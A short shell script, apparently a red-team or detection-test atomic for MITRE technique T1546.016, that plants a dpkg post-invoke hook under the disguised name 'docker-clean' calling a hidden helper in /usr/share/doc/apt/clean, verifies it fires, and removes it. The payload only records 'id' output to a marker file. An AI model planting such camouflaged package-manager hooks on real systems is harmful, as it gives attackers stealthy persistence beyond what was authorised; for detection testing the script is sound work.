#!/bin/sh
# T1546.016 (quiet): dpkg calls a helper after each action
M=/var/tmp/luytre-foothold N=28-dpkg-hook
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
plant() {
  w /etc/dpkg/dpkg.cfg.d/docker-clean <<'E'
post-invoke="if [ -x /usr/share/doc/apt/clean ]; then /usr/share/doc/apt/clean; fi"
E
  x /usr/share/doc/apt/clean <<'E'
#!/bin/sh
id > /var/tmp/luytre-foothold/28-dpkg-hook
E
}
prove() {
  rm -f "$M/$N"
  dpkg --configure -a
  seen
}
remove() {
  rm -f /etc/dpkg/dpkg.cfg.d/docker-clean /usr/share/doc/apt/clean
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
